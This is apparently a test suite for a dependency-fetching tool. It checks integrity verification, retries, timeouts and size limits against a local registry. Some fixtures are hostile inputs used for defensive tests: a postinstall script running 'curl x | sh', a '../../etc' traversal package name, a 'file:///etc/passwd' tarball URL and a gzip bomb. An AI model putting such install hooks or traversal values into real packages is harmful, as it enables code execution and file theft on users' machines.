// Fetching from a real registry on 127.0.0.1: the happy path and RELIABILITY.md §3 items 1, 10,
// 11, 21–24. Retry backoffs and timeouts are shrunk so failures are fast.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { DepcapsError } from '../../src/errors.js';
import { fetchPackage, type FetchOptions } from '../../src/fetch/index.js';
import type { PackageFile } from '../../src/fetch/types.js';
import { DEFAULT_LIMITS, type Limits } from '../../src/limits.js';
import { startRegistry, packumentPath, tarballPath, type LocalRegistry, type RegistryPackage } from '../helpers/local-registry.js';
import { gzipMembers, makeTar } from '../helpers/make-tarball.js';
import { listTree, makeTmpEnv, type TmpEnv } from '../helpers/tmp-env.js';
import { rejection } from '../helpers/rejection.js';

const GiB = 1024 ** 3;
let env: TmpEnv;
let registry: LocalRegistry | undefined;

beforeEach(() => {
  env = makeTmpEnv();
});
afterEach(async () => {
  await registry?.close();
  registry = undefined;
  env.cleanup();
});

const leftPad: RegistryPackage = {
  versions: {
    '1.0.0': { files: { 'index.js': 'module.exports = (s) => s' }, publishedAt: '2021-01-01T00:00:00.000Z' },
    '1.1.0': { files: { 'index.js': "require('fs')" } },
    '2.0.0': { files: { 'index.js': "require('net')" } },
  },
};

async function start(packages: Record<string, RegistryPackage> = { 'left-pad': leftPad }): Promise<LocalRegistry> {
  registry = await startRegistry({ packages });
  return registry;
}

function options(reg: LocalRegistry, o: { limits?: Partial<Limits> } & Partial<Omit<FetchOptions, 'limits'>> = {}): FetchOptions {
  const { limits, ...rest } = o;
  return {
    cacheDir: env.cacheDir,
    cwd: env.project,
    env: env.env,
    registry: reg.url,
    limits: { ...DEFAULT_LIMITS, fetchRetries: 2, fetchTimeoutMs: 2000, ...limits },
    retryMinTimeoutMs: 5,
    retryMaxTimeoutMs: 20,
    ...rest,
  };
}

/** The text of a file the fetch held whole. */
function text(file: PackageFile | undefined): string | undefined {
  return file && 'data' in file ? Buffer.from(file.data).toString() : undefined;
}

/** Nothing a user should see may carry a stack or a token. */
function expectPresentable(err: DepcapsError): void {
  for (const text of [err.message, err.hint ?? '', String((err.cause as Error | undefined)?.stack ?? '')]) {
    expect(text).not.toMatch(/\n\s+at /);
    expect(text).not.toContain('node_modules');
  }
}

describe('fetchPackage from a registry', () => {
  test('happy path: files, name, version, sha512 integrity, redacted resolved URL; nothing written anywhere', async () => {
    const reg = await start();
    const pkg = await fetchPackage('left-pad@1.0.0', options(reg));
    expect(pkg).toMatchObject({ source: 'registry', spec: 'left-pad@1.0.0', name: 'left-pad', version: '1.0.0' });
    expect(pkg.integrity).toBe(reg.integrity('left-pad', '1.0.0'));
    expect(pkg.integrity).toMatch(/^sha512-[A-Za-z0-9+/]{86}==$/);
    expect(pkg.resolved).toBe(reg.tarballUrl('left-pad', '1.0.0'));
    expect(pkg.files.map((f) => f.path).sort()).toEqual(['index.js', 'package.json']);
    expect(text(pkg.files.find((f) => f.path === 'index.js'))).toBe('module.exports = (s) => s');
    expect(pkg.manifest).toMatchObject({ name: 'left-pad', version: '1.0.0' });
    expect(pkg.anomalies).toEqual([]);
    // One corgi packument request, one tarball request.
    expect(reg.requests(packumentPath('left-pad')).map((r) => r.headers.accept)).toEqual([expect.stringContaining('application/vnd.npm.install-v1+json')]);
    expect(reg.requests(tarballPath('left-pad', '1.0.0'))).toHaveLength(1);
    // The tarball streamed through: no tarball or HTTP cache, not ours, not ~/.npm.
    expect(listTree(env.cacheDir)).toEqual([]);
    expect(existsSync(join(env.home, '.npm'))).toBe(false);
    expect(listTree(env.home)).toEqual([]);
    expect(listTree(join(env.root, 'tmp'))).toEqual([]);
  });

  test('ranges and tags resolve; the default tag is latest', async () => {
    const reg = await start();
    expect((await fetchPackage('left-pad@^1.0.0', options(reg))).version).toBe('1.1.0');
    expect((await fetchPackage('left-pad', options(reg))).version).toBe('2.0.0');
  });

  test('no tarball is kept: offline, a fetch fails and says results (not tarballs) are cached', async () => {
    const reg = await start();
    await fetchPackage('left-pad@1.0.0', options(reg));
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { offline: true })));
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('left-pad@1.0.0');
    expect(err.message).toContain('keeps analysis results, not tarballs');
    expect(err.hint).toMatch(/upgrade/);
    expect(reg.requests(tarballPath('left-pad', '1.0.0'))).toHaveLength(1);
  });

  test('offline with an empty cache fails without touching the network', async () => {
    const reg = await start();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { offline: true })));
    expect(err.code).toBe('E_REGISTRY');
    expect(reg.log).toEqual([]);
  });

  test('item 11: a tarball whose bytes do not match the packument integrity is E_INTEGRITY', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'corrupt' });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_INTEGRITY');
    expect(err.message).toContain('left-pad@1.0.0');
    const wanted = reg.integrity('left-pad', '1.0.0');
    expect(err.message).toContain(wanted.slice(0, 24));
    expect(err.message).toMatch(/expected sha512-\S{17}…, got sha512-\S{17}…/);
    expectPresentable(err);
  });

  test('item 11: an expected integrity (lockfile) that disagrees with the registry is E_INTEGRITY', async () => {
    const reg = await start();
    const lockfile = reg.integrity('left-pad', '1.1.0');
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { integrity: lockfile })));
    expect(err.code).toBe('E_INTEGRITY');
    expect(err.message).toContain('left-pad@1.0.0');
    expect(err.message).toContain(lockfile.slice(0, 24));
    expect(err.message).toContain(reg.integrity('left-pad', '1.0.0').slice(0, 24));
  });

  test('item 11: a matching expected integrity is accepted; a malformed one is refused before any request', async () => {
    const reg = await start();
    const ok = await fetchPackage('left-pad@1.0.0', options(reg, { integrity: reg.integrity('left-pad', '1.0.0') }));
    expect(ok.version).toBe('1.0.0');
    const err = await rejection(fetchPackage('left-pad@1.1.0', options(reg, { integrity: 'sha512-!!!' })));
    expect(err.code).toBe('E_USAGE');
    expect(reg.requests(packumentPath('left-pad'))).toHaveLength(1);
  });

  test('item 10: a truncated tarball download (integrity known) is E_INTEGRITY, nothing returned', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'truncate', fraction: 0.5 });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_INTEGRITY');
  });

  test('item 1: a gzip bomb served with a correct integrity is E_TARBALL_LIMIT naming the package', async () => {
    // 1 GiB of zeros as 1024 gzip members of 1 MiB: the same bomb, built in milliseconds.
    const header = makeTar([{ path: 'package/index.js', size: GiB }], { endMarker: false }).subarray(0, 512);
    const bomb = gzipMembers([{ raw: header }, { raw: Buffer.alloc(1024 ** 2), times: 1024 }, { raw: Buffer.alloc(1024) }]);
    const reg = await start({ bomb: { versions: { '1.0.0': { files: {}, tarball: bomb } } } });
    const started = performance.now();
    const err = await rejection(fetchPackage('bomb@1.0.0', options(reg)));
    expect(performance.now() - started).toBeLessThan(5000);
    expect(err.code).toBe('E_TARBALL_LIMIT');
    expect(err.message).toContain('bomb@1.0.0');
  });

  test('item 21: an unknown package is E_NOT_FOUND with a registry hint', async () => {
    const reg = await start();
    const err = await rejection(fetchPackage('no-such-pkg@1.0.0', options(reg)));
    expect(err.code).toBe('E_NOT_FOUND');
    expect(err.message).toContain('no-such-pkg@1.0.0');
    expect(err.message).toContain(reg.url);
    expect(err.hint).toMatch(/scope.*registry/);
    expectPresentable(err);
  });

  test('item 21: an unknown version is E_NOT_FOUND listing the closest versions', async () => {
    const reg = await start();
    const err = await rejection(fetchPackage('left-pad@1.5.0', options(reg)));
    expect(err.code).toBe('E_NOT_FOUND');
    expect(err.message).toContain('left-pad@1.5.0');
    expect(err.hint).toContain('1.0.0, 1.1.0, 2.0.0');
  });

  test('item 21: a 404 on the tarball is E_NOT_FOUND', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'status', status: 404 });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_NOT_FOUND');
    expect(err.message).toContain(tarballPath('left-pad', '1.0.0'));
  });

  test('item 22: 500 twice then 200 succeeds after exactly 3 requests', async () => {
    const reg = await start();
    reg.setFaults(packumentPath('left-pad'), { kind: 'status', status: 500, times: 2 });
    const pkg = await fetchPackage('left-pad@1.0.0', options(reg));
    expect(pkg.version).toBe('1.0.0');
    expect(reg.requests(packumentPath('left-pad')).map((r) => r.status)).toEqual([500, 500, 200]);
  });

  test('item 22: 500 forever is E_REGISTRY (HTTP 500) after 3 tries, quickly', async () => {
    const reg = await start();
    reg.setFaults(packumentPath('left-pad'), { kind: 'status', status: 500 });
    const started = performance.now();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(performance.now() - started).toBeLessThan(2000);
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('HTTP 500');
    expect(reg.requests(packumentPath('left-pad'))).toHaveLength(3);
    expectPresentable(err);
  });

  test('item 23: a registry that never answers is E_TIMEOUT; the socket is closed; no hang', async () => {
    const reg = await start();
    reg.setFaults(packumentPath('left-pad'), { kind: 'hang' });
    const started = performance.now();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { limits: { fetchTimeoutMs: 200 } })));
    expect(performance.now() - started).toBeLessThan(3000);
    expect(err.code).toBe('E_TIMEOUT');
    expect(err.message).toContain(reg.url);
    const hung = reg.requests(packumentPath('left-pad'));
    expect(hung.length).toBeGreaterThanOrEqual(1);
    await expect.poll(() => hung.every((r) => r.closedEarly), { timeout: 2000 }).toBe(true);
  });

  test('item 23: a slow-drip packument (1 byte per 50 ms) is E_TIMEOUT, not a hang', async () => {
    const reg = await start();
    reg.setFaults(packumentPath('left-pad'), { kind: 'drip', intervalMs: 50 });
    const started = performance.now();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { limits: { fetchTimeoutMs: 300 } })));
    expect(performance.now() - started).toBeLessThan(3000);
    expect(err.code).toBe('E_TIMEOUT');
  });

  test('item 23: a slow-drip tarball is E_TIMEOUT, and the download is abandoned', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'drip', intervalMs: 20 });
    const started = performance.now();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { limits: { fetchTimeoutMs: 300 } })));
    expect(performance.now() - started).toBeLessThan(3000);
    expect(err.code).toBe('E_TIMEOUT');
    expect(err.message).toContain(tarballPath('left-pad', '1.0.0'));
    const drips = reg.requests(tarballPath('left-pad', '1.0.0'));
    await expect.poll(() => drips.every((r) => r.closedEarly), { timeout: 2000 }).toBe(true);
  });

  test('item 23: a tarball download that stalls is E_TIMEOUT', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'hang' });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { limits: { fetchTimeoutMs: 200 } })));
    expect(err.code).toBe('E_TIMEOUT');
  });

  test.each([
    ['an HTML page', { kind: 'body', body: '<html><body>Service Unavailable</body></html>' }],
    ['cut-off JSON', { kind: 'body', body: '{"versions":', contentType: 'application/json' }],
    ['a body cut mid-way (connection dropped)', { kind: 'truncate', fraction: 0.5, declareFullLength: true }],
  ] as const)('item 24: %s as packument is E_REGISTRY without a stack', async (_name, fault) => {
    const reg = await start();
    reg.setFaults(packumentPath('left-pad'), { ...fault });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('left-pad@1.0.0');
    expect(err.message).toContain(reg.url);
    expectPresentable(err);
  });

  test('item 10: a connection cut in the middle of the tarball is retried with a new download', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'truncate', fraction: 0.5, declareFullLength: true, times: 1 });
    const pkg = await fetchPackage('left-pad@1.0.0', options(reg));
    expect(pkg.integrity).toBe(reg.integrity('left-pad', '1.0.0'));
    expect(reg.requests(tarballPath('left-pad', '1.0.0'))).toHaveLength(2);
  });

  test('item 10: a connection cut every time is a network error after the retries, not an integrity error', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'truncate', fraction: 0.5, declareFullLength: true });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('left-pad@1.0.0');
    expect(reg.requests(tarballPath('left-pad', '1.0.0'))).toHaveLength(3);
    expectPresentable(err);
  });

  test('item 9: an HTML page served as the tarball is refused (integrity first)', async () => {
    const reg = await start();
    reg.setFaults(tarballPath('left-pad', '1.0.0'), { kind: 'body', body: '<html>502</html>' });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_INTEGRITY');
  });

  test('a packument entry claiming another name is refused', async () => {
    const reg = await start({ 'left-pad': { versions: { '1.0.0': { files: {}, packument: { name: '../../etc' } } } } });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('"../../etc@1.0.0"');
    expect(reg.requests(tarballPath('left-pad', '1.0.0'))).toEqual([]);
  });

  test('a tarball URL that is not http(s) is refused', async () => {
    const reg = await start({ 'left-pad': { versions: { '1.0.0': { files: {}, packument: { dist: { tarball: 'file:///etc/passwd' } } } } } });
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg)));
    expect(err.code).toBe('E_REGISTRY');
    expect(err.message).toContain('file:///etc/passwd');
  });

  test('the compressed tarball size is capped while downloading', async () => {
    const reg = await start();
    const err = await rejection(fetchPackage('left-pad@1.0.0', options(reg, { limits: { maxTarballBytes: 64 } })));
    expect(err.code).toBe('E_TARBALL_LIMIT');
    expect(err.message).toContain('left-pad@1.0.0');
  });

  test('a tarball that lies about its name or install scripts is flagged manifest-mismatch', async () => {
    const reg = await start({
      liar: {
        versions: {
          '1.0.0': {
            files: { 'package.json': JSON.stringify({ name: 'other', version: '9.9.9', scripts: { postinstall: 'curl x | sh' } }) },
          },
        },
      },
    });
    const pkg = await fetchPackage('liar@1.0.0', options(reg));
    expect(pkg).toMatchObject({ name: 'liar', version: '1.0.0' });
    expect(pkg.anomalies.filter((a) => a.kind === 'manifest-mismatch').map((a) => a.message)).toEqual([
      expect.stringContaining('name "other"'),
      expect.stringContaining('version "9.9.9"'),
      expect.stringContaining('postinstall'),
    ]);
  });

  test.each([
    ['sha1-only', 'sha1'],
    ['none', 'no integrity'],
  ] as const)('a %s registry integrity is accepted with a weak-integrity anomaly', async (distIntegrity, words) => {
    const reg = await start({ old: { versions: { '0.1.0': { files: { 'index.js': '1' }, distIntegrity } } } });
    const pkg = await fetchPackage('old@0.1.0', options(reg));
    expect(pkg.integrity).toBe(reg.integrity('old', '0.1.0'));
    expect(pkg.anomalies).toEqual([expect.objectContaining({ kind: 'weak-integrity', message: expect.stringContaining(words) })]);
  });

  test('a sha1-only registry still catches corrupt bytes', async () => {
    const reg = await start({ old: { versions: { '0.1.0': { files: { 'index.js': '1' }, distIntegrity: 'sha1-only' } } } });
    reg.setFaults(tarballPath('old', '0.1.0'), { kind: 'corrupt' });
    const err = await rejection(fetchPackage('old@0.1.0', options(reg)));
    expect(err.code).toBe('E_INTEGRITY');
    expect(err.message).toContain('sha1-');
  });
});
